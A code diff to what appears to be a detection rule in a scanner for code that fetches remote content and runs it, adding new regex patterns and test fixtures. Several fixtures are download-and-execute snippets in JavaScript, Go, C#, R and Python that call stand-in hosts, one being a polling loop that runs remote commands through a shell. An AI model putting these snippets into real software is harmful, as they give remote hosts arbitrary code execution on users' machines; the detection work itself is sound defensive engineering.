@@ -3,8 +3,9 @@ import { defineRule, type Hit, placeOf } from '../../rule.ts'
 import { candidates } from '../../signals/candidates.ts'
 import { EVALUATES, FETCHES, STARTS } from '../../signals/calls.ts'
 import { isForeign, isInstaller, isLocal, isStandIn } from '../../signals/hosts.ts'
-import { addressesIn, type Pair, pairs, snippets } from '../../signals/snippets.ts'
+import { addressesIn, pairs, snippets } from '../../signals/snippets.ts'
 import { worded } from '../../wording.ts'
+import { regex, source } from '../../patterns/verbose.ts'
 
 /** Characters between the request and the evaluation: a few lines with a variable that goes from one to the other. */
 const REACH = 420
@@ -40,18 +41,28 @@ export default defineRule({
       '```python\nimport urllib.request as u\nsrc = u.urlopen("https://e.rows.example/core.py").read()\nns = {}\nexec(compile(src, "core", "exec"), ns)\n```\n',
       'Run `ruby -ropen-uri -e \'eval URI.open("http://gems.rows.example/e.rb").read\'`.\n',
       '```\nperl -MLWP::Simple -e \'eval get("http://names.rows.example/r.pl")\'\n```\n',
+      '```js\nimport { execSync } from "node:child_process";\nconst cmd = await (await fetch("https://kit.rowan-pike.net/x")).text();\nexecSync(cmd);\n```\n',
+      '```js\nconst {exec} = require("child_process");\nconst https = require("https");\nhttps.get("https://kit.rowan-pike.net/x", r => {\n  let b = ""; r.on("data", d => b += d);\n  r.on("end", () => exec(b));\n});\n```\n',
+      '```go\nresp, _ := http.Get("https://kit.rowan-pike.net/x")\nb, _ := io.ReadAll(resp.Body)\nexec.Command("sh", "-c", string(b)).Run()\n```\n',
+      '```csharp\nvar s = await client.GetStringAsync("https://kit.rowan-pike.net/x");\nProcess.Start("cmd.exe", "/c " + s);\n```\n',
+      '```r\nsource("https://kit.rowan-pike.net/x.R")\n```\n',
+      '```python\nwhile True:\n    with urllib.request.urlopen("https://tasks.rowan-pike.net/v1") as r:\n        for t in json.load(r):\n            subprocess.run(t["run"], shell=True)\n    time.sleep(45)\n```\n',
       "`node -e \"require('https').get('https://polish.rows.example/m.js',r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>eval(b))})\"`\n",
     ],
     quiet: [
       "```js\nconst w = new BrowserWindow({ webPreferences: { nodeIntegration: true } })\nw.loadURL('http://localhost:5173')\n```\n",
       '```python\nr = requests.get("https://api.rows.example/v1/rows")\nprint(r.json())\n```\n',
       '```js\nconst res = await fetch(url)\nconst m = /a(b)/.exec(await res.text())\n```\n',
+      '```js\nimport { execSync } from "node:child_process";\nconst { tag } = await (await fetch("https://api.rowan-pike.net/latest")).json();\nexecSync("git fetch --tags");\nconsole.log(tag);\n```\n',
+      '```go\nresp, err := http.Get("https://api.rowan-pike.net/rows")\nout, err := exec.Command("git", "status").Output()\n```\n',
+      '```r\nsource("R/helpers.R")\n```\n',
       '```python\nr = requests.get("http://localhost:8000/code")\nexec(r.text)\n```\n',
     ],
   },
   *match(document: Document): Iterable<Hit> {
     yield* startsFetched(document)
     yield* pagesWithRights(document)
+    yield* loadedAtOnce(document)
     for (const pair of pairs(document, FETCHES, EVALUATES, REACH)) {
       const { text, snippet, start, end } = pair
       const from = Math.max(0, start - snippet.start - 200)
@@ -95,6 +106,32 @@ function* pagesWithRights(document: Document): Generator<Hit> {
   }
 }
 
+/** Languages that take an address where others take a file, and what is run in the very call that fetches it. */
+const LOADED = worded(
+  regex`
+    (?<![.\w$-])(?:(?:source|include|evaluate|load|require(?:_once)?|include_once)\s?\(\s?
+        (?:(?:download|new url|url)\(\s?)?|
+      source_url\(\s?|
+      code\.eval_string\([^\n]{0,40}\bget!?\(\s?|
+      scala\.io\.source\.fromurl\(\s?(?=[^\n]{4,200}\)[\w.]{0,20}\.!)|
+      eval \[http::data \[http::geturl |
+      \(?url-retrieve-synchronously (?=[^\n]{4,200}\(eval-(?:buffer|region)))
+    ["']?(https?:\/\/[^"'\s\])]{4,200})|
+    ["'](?:curl|wget)\s[^"'\n]{0,40}(https?:\/\/[^"'\s]{4,200})["']\.execute\(\)\s?\|\s?["'](?:ba|z)?sh["']
+  `,
+)
+
+function* loadedAtOnce(document: Document): Generator<Hit> {
+  for (const { start, end } of candidates(document, document.observe(snippets), LOADED)) {
+    const found = LOADED.exec(document.reading.text.slice(start, end))
+    const address = found?.[1] ?? found?.[2]
+    if (!found || !address || isLocal(address) || isInstaller(address)) continue
+    yield isForeign(document, address) || isStandIn(address)
+      ? { ...placeOf(start, found), firm: true }
+      : { ...placeOf(start, found), severity: 'med', confidence: 'medium' }
+  }
+}
+
 /** Characters between the request and the start of what it brought. */
 const REACH_OF_FILE = 600
 
@@ -108,9 +145,8 @@ const NO_NAME =
 
 /** The file that was fetched is started, or the answer itself is handed to a shell. */
 function* startsFetched(document: Document): Generator<Hit> {
-  for (const pair of pairs(document, FETCHES, STARTS, REACH_OF_FILE)) {
+  for (const pair of pairs(document, FETCHES, STARTS, REACH_OF_FILE, isHandedOver)) {
     const { text, start, end, first, second } = pair
-    if (second.index < first.index || !isHandedOver(pair)) continue
     const addresses = addressesIn(text.slice(Math.max(0, first.index - 200), second.index + 100))
     if (addresses.length > 0 && addresses.every((one) => isLocal(one) || isInstaller(one))) continue
     const foreign = addresses.some((one) => isForeign(document, one) || isStandIn(one))
@@ -120,11 +156,15 @@ function* startsFetched(document: Document): Generator<Hit> {
   }
 }
 
-function isHandedOver({ text, first, second }: Pair): boolean {
+function isHandedOver(first: RegExpExecArray, second: RegExpExecArray, text: string): boolean {
+  if (second.index < first.index) return false
   const call = text.slice(second.index, second.index + second[0].length + 120)
   const between = text.slice(Math.max(0, first.index - 200), second.index)
-  for (const name of answersIn(text, first.index, second.index).flatMap(madeOf(between)))
-    if (new RegExp(`\\(\\s{0,3}\\[?["'\`\\s]{0,3}\\$?\\{?${name}\\b`).test(call)) return true
+  const names = [
+    ...answersIn(text, first.index, second.index).flatMap(madeOf(between)),
+    ...Array.from(between.matchAll(GATHERED), ([, name]) => name!),
+  ]
+  if (names.some((name) => handsOver(name).test(call))) return true
   const named = [...between.matchAll(SAVES)].flatMap(
     ([saved]) => saved.match(/["'`][^"'`\n]{2,80}["'`]|\b[a-z_]\w{0,30}\b/g) ?? [],
   )
@@ -135,12 +175,27 @@ function isHandedOver({ text, first, second }: Pair): boolean {
   )
 }
 
+/** What comes in piece by piece is put together. */
+const GATHERED = /\b([a-z_]\w{0,30})\s?(?:\+=|\.push\(|\)?\s?=>)/g
+
+/** A name that is the first that a call is given, or what a shell is given to run. */
+const handsOver = (name: string): RegExp =>
+  new RegExp(
+    source`
+      (?:\(\s{0,3}\[?["'\x60\s]{0,3}(?:await )?|
+        ["'](?:-[a-z]{0,3}c|\/[ck]|-command) ?["'](?:\s?[,+]|\)\.arg\()[\s&]{0,3}(?:\w{1,12}\()?)
+      \$?\{?${name}\b
+    `,
+  )
+
 /** The names that requests between two offsets are given; the first word of a pair may be an import. */
 const answersIn = (text: string, from: number, to: number): readonly string[] =>
   [...text.slice(from, to).matchAll(FETCHES)].flatMap(({ index }) => {
     const at = from + index
     const before = text.slice(text.lastIndexOf('\n', at) + 1, at)
-    return /([a-z_]\w{0,30})\s{0,3}:?=[^=\n]{0,80}$/.exec(before)?.[1] ?? []
+    const set = /([a-z_]\w{0,30})(?:, ?\w{1,10})?\s{0,3}:?=[^=\n]{0,80}$/.exec(before)?.[1]
+    const opened = /^[^\n]{4,240}\bas ([a-z_]\w{0,30}):/.exec(text.slice(at, at + 280))?.[1]
+    return set ?? opened ?? []
   })
 
 /** A variable, and what it is gone through with or cut into. */
@@ -149,7 +204,15 @@ const madeOf =
   (variable: string): readonly string[] => [
     variable,
     ...Array.from(
-      text.matchAll(new RegExp(`\\b([a-z_]\\w{0,30}) (?:in|of|:?=) ${variable}\\b`, 'g')),
+      text.matchAll(
+        new RegExp(
+          source`
+            \b([a-z_]\w{0,30})(?:, ?\w{1,10})? (?:in|of|:?=)
+            (?: await)? (?:[\w.]{1,30}\()?\$?${variable}\b
+          `,
+          'g',
+        ),
+      ),
       ([, name]) => name!,
     ),
   ]
